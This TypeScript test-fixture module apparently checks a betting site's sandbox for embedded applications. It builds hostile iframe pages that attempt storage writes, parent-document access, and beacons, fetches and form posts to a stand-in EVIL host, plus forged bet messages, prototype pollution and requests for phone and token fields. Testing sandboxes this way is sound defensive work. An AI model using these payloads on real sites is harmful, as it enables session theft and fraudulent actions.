/** What an application tries by itself: each attempt that is not refused is noted by its name. */
const ATTEMPTS = `
const never = (ms = 400) => new Promise((_, no) => setTimeout(() => no(new Error('silence')), ms));
const loads = (element, into = document.body) => Promise.race([never(1500), new Promise((ok, no) => {
  element.onload = ok; element.onerror = no; into.append(element);
})]);
const make = (name, fields) => Object.assign(document.createElement(name), fields);
const answered = (target) => Promise.race([never(1500), new Promise((ok, no) => { target.onmessage = ok; target.onopen = ok; target.onerror = no; })]);
const script = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
const truthy = (value) => { if (!value) throw new Error('refused'); };
const ATTACKS = {
  'cookie': () => { document.cookie = 'pwn=1'; truthy(document.cookie.includes('pwn=1')); },
  'local storage': () => localStorage.setItem('pwn', '1'),
  'session storage': () => sessionStorage.setItem('pwn', '1'),
  'database': () => Promise.race([never(), new Promise((ok, no) => { const r = indexedDB.open('pwn'); r.onsuccess = ok; r.onerror = no; })]),
  'cache': () => caches.open('pwn'),
  'file system': () => navigator.storage.getDirectory(),
  'parent document': () => truthy(parent.document.body),
  'parent global': () => { parent.pwned = 1; },
  'parent cookie': () => truthy(parent.document.cookie !== undefined),
  'parent storage': () => truthy(parent.localStorage),
  'parent fetch': () => parent.fetch('/web-api/session'),
  'parent function': () => parent.Function('pwned=1')(),
  'own element': () => frameElement.removeAttribute('sandbox'),
  'fetch of the host': () => fetch('/web-api/session', { credentials: 'include' }),
  'fetch of elsewhere': () => fetch(EVIL, { mode: 'no-cors' }),
  'old request': () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', '/web-api/session'); x.onload = ok; x.onerror = no; x.send(); }),
  'socket': () => answered(new WebSocket(SOCKET)),
  'stream of events': () => answered(new EventSource('/web-api/session')),
  'picture of elsewhere': () => loads(make('img', { src: EVIL + '/a.png' })),
  'sheet of elsewhere': () => loads(make('link', { rel: 'stylesheet', href: EVIL + '/a.css' })),
  'import in a sheet': () => loads(make('link', { rel: 'stylesheet', href: 'data:text/css,a{}' })),
  'script of elsewhere': () => loads(make('script', { src: EVIL + '/a.js' })),
  'script of the host': () => loads(make('script', { src: '/web-api/session' })),
  'script of data': () => loads(make('script', { src: 'data:text/javascript,0' })),
  'script of a blob': () => loads(make('script', { src: script('0') })),
  'import': () => import(EVIL + '/a.js'),
  'import of data': () => import('data:text/javascript,export default 1'),
  'import of a blob': () => import(script('export default 1')),
  'worker': () => answered(new Worker(script('postMessage(1)'))),
  'worker of data': () => answered(new Worker('data:text/javascript,postMessage(1)')),
  'shared worker': () => answered(new SharedWorker(script('onconnect=({ports:[p]})=>p.postMessage(1)')).port),
  'service worker': () => navigator.serviceWorker.register('/pwa-sw.js'),
  'evaluation': () => eval('1'),
  'function of a text': () => Function('return 1')(),
  'timer of a text': () => new Promise((ok, no) => { globalThis.ran = ok; setTimeout('ran()'); setTimeout(no, 200); }),
  'binary code': () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  'frame of the host': () => new Promise((ok, no) => { const f = make('iframe', { src: '/robots.txt' }); f.onload = () => { try { truthy(f.contentDocument.body.children.length); ok(); } catch (e) { no(e); } }; document.body.append(f); setTimeout(no, 1500); }),
  'frame of a text': () => new Promise((ok, no) => { globalThis.nested = ok; document.body.append(make('iframe', { srcdoc: '<script>parent.parent.document.body; parent.nested()</scr' + 'ipt>' })); setTimeout(no, 600); }),
  'object': () => loads(make('object', { data: '/robots.txt', type: 'text/html' })),
  'embedded page': () => loads(make('embed', { src: '/robots.txt', type: 'text/html' })),
  'media': () => Promise.race([never(), new Promise((ok, no) => { const v = make('video', { src: EVIL + '/a.mp4' }); v.onloadedmetadata = ok; v.onerror = no; })]),
  'font': () => new FontFace('x', 'url(' + EVIL + '/a.woff2)').load(),
  'base': () => { document.head.append(make('base', { href: EVIL })); truthy(document.baseURI.startsWith(EVIL)); },
  'window': () => truthy(open(EVIL)),
  'window of the host': () => truthy(open('/robots.txt', '_blank')),
  'question': () => truthy(confirm('pwn')),
  'typed answer': () => truthy(prompt('pwn')),
  'locks': () => navigator.locks.request('placing', () => 1),
  'clipboard': () => navigator.clipboard.writeText('pwn'),
  'permission': () => Notification.requestPermission().then((said) => truthy(said === 'granted')),
  'place': () => new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no, { timeout: 300 })),
  'camera': () => navigator.mediaDevices.getUserMedia({ video: true }),
  'passkey': () => Promise.race([never(), navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } })]),
  'whole screen': () => document.documentElement.requestFullscreen(),
  'pointer': () => document.documentElement.requestPointerLock({}).then(() => truthy(document.pointerLockElement)),
  'storage access': () => document.requestStorageAccess(),
};`;

/** Attempts that no exception answers: what they came to is seen from the page around the frame. */
const SILENT = `
function silently(run) { try { run(); } catch { /* refused */ } }
const CLICKED = (fields) => { const a = make('a', fields); document.body.append(a); a.click(); };
async function silent(port) {
  silently(() => { top.location = EVIL; });
  silently(() => { top.location.href = 'javascript:pwned=1'; });
  silently(() => { parent.location.replace(EVIL); });
  silently(() => open(EVIL, '_top'));
  silently(() => CLICKED({ href: EVIL, target: '_top' }));
  silently(() => CLICKED({ href: EVIL, target: '_parent' }));
  silently(() => CLICKED({ href: 'data:text/html,x', download: 'pwn.html' }));
  for (const target of ['_top', '_parent', '_self', '_blank'])
    silently(() => { const f = make('form', { action: EVIL, method: 'post', target }); document.body.append(f); f.submit(); });
  silently(() => navigator.sendBeacon(EVIL, 'pwn'));
  silently(() => print());
  silently(() => alert('pwn'));
  silently(() => { const c = new BroadcastChannel('session'); c.postMessage('signed-out'); });
  for (const target of [parent, top]) {
    silently(() => target.postMessage(JSON.stringify({ v: 1, app: 'betting', id: 'x', type: 'couponAddBet', payload: BET }), '*'));
    silently(() => target.postMessage({ type: 'couponAddBet', payload: BET }, '*'));
    silently(() => target.postMessage('ready', '*', [new MessageChannel().port1]));
  }
  const say = (type, payload, app = 'betting') => port.postMessage(JSON.stringify({ v: 1, app, id: 'f', type, payload }));
  say('couponAddBet', BET);
  say('couponAddBet', BET, 'office');
  say('navigate', { route: 'office-menu' });
  say('navigate', { route: EVIL });
  say('openDialog', { dialog: 'login' });
  say('openDialog', { dialog: '__proto__' });
  say('notify', { text: 'PWNED' });
  say('resize', { height: 1e9 });
  say('requestUserFields', { fields: ['phone', 'token'] });
  port.postMessage({ v: 1, app: 'betting', id: 'f', type: 'navigate', payload: { route: 'home' } });
  port.postMessage('{"__proto__":{"isSignedIn":true}}');
  port.postMessage('{"v":1,"app":"betting","id":"f","type":"navigate","payload":{"route":"home","params":{"__proto__":{"pwned":1}}}}');
  port.postMessage('x'.repeat(2e6));
  for (let n = 0; n < 5000; n += 1) say('couponAddBet', BET);
  const field = make('input', {});
  document.body.append(field);
  for (let n = 0; n < 20; n += 1) { field.focus(); window.focus(); await new Promise((ok) => setTimeout(ok, 20)); }
}`;

/** The page of an application that attacks the page around it: its title says which attempts were not refused. */
export function hostilePage(evil: string, bet: string): string {
  return `<!doctype html><title>x</title><body><script>
const EVIL = ${JSON.stringify(evil)};
const SOCKET = EVIL.replace('http', 'ws');
const BET = ${bet};
${ATTEMPTS}
${SILENT}
async function attack(port) {
  const came = [];
  await Promise.all(Object.entries(ATTACKS).map(async ([name, run]) => {
    try { await Promise.race([Promise.resolve(run()), never(4000)]); came.push(name); } catch { /* refused */ }
  }));
  await silent(port);
  document.title = 'came:' + JSON.stringify({ tried: Object.keys(ATTACKS).length, came });
}
addEventListener('message', ({ source, ports }) => {
  if (source !== parent || ports.length !== 1) return;
  const [port] = ports;
  port.start();
  port.postMessage(JSON.stringify({ v: 1, app: 'betting', id: 'r', type: 'ready', payload: {} }));
  setTimeout(() => void attack(port), 200);
});</script>`;
}

/** The page of an application that fills the history of the page around it. */
export const SPAM = `<!doctype html><title>x</title><script>
addEventListener('message', ({ source, ports: [port] }) => {
  if (source !== parent || port === undefined) return;
  port.postMessage(JSON.stringify({ v: 1, app: 'betting', id: 'r', type: 'ready', payload: {} }));
  setTimeout(() => { for (let n = 0; n < 200; n += 1) history.pushState(n, ''); }, 500);
});</script>`;

/** The page of an application that takes the focus again and again. */
export const THIEF = `<!doctype html><title>x</title><body><input id="field"><script>
addEventListener('message', ({ source, ports: [port] }) => {
  if (source !== parent || port === undefined) return;
  port.postMessage(JSON.stringify({ v: 1, app: 'betting', id: 'r', type: 'ready', payload: {} }));
  setInterval(() => { field.focus(); window.focus(); }, 150);
});</script>`;

/** A page without any of the site's guards that frames others and hands each a port. */
export function unguardedPage(frames: readonly string[]): string {
  const written = frames.map((address) => `<iframe src="${address}"></iframe>`).join('');
  return `<!doctype html><title>x</title><body>${written}<script>
for (const frame of document.querySelectorAll('iframe'))
  frame.onload = ({ target }) => target.contentWindow.postMessage('', '*', [new MessageChannel().port2]);
</script>`;
}

/** The rules of the policy of frames that nothing else stands for, each with what is there once it is taken away; what fetches from elsewhere this browser stops in an opaque frame besides. */
export const POLICY_RULES: Readonly<Record<string, string>> = {
  "script-src 'unsafe-inline'": "script-src * 'unsafe-inline' 'unsafe-eval' blob: data:",
  "base-uri 'none'": 'base-uri *',
  "worker-src 'none'": 'worker-src * blob: data:',
  'sandbox allow-scripts': '',
};

/** Rules of the policy of frames that others stand behind, each with the attempts that it alone has to stop; what an object shows is framed, too. */
export const RULES_ALONE: Readonly<Record<string, readonly string[]>> = {
  "object-src 'none'": ['object'],
  "frame-src 'none'": ['frame', 'object'],
  "form-action 'none'": ['form'],
};

/** A page that has three attempts come to another server, each at its own path there; the last of them leaves the page. */
export function attemptsAt(address: string): string {
  return `<!doctype html><title>x</title><body><script>
const make = (name, fields) => document.body.appendChild(Object.assign(document.createElement(name), fields));
make('object', { data: ${JSON.stringify(address)} + 'object', type: 'text/html' });
make('iframe', { src: ${JSON.stringify(address)} + 'frame' });
setTimeout(() => make('form', { action: ${JSON.stringify(address)} + 'form', method: 'post' }).submit(), 1000);
</script>`;
}
